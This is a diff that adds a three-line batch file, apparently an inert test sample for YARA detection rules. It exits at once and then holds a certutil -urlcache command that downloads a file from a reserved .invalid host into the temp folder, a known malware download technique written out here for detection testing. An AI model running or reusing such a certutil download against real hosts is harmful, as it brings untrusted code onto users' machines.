@@ -1,0 +1,3 @@
+@rem canhgac YARA test sample - inert: exits at once; URLs are under the reserved .invalid TLD
+@exit /b 0
+certutil -urlcache -split -f http://example.invalid/x.txt %TEMP%\x.txt
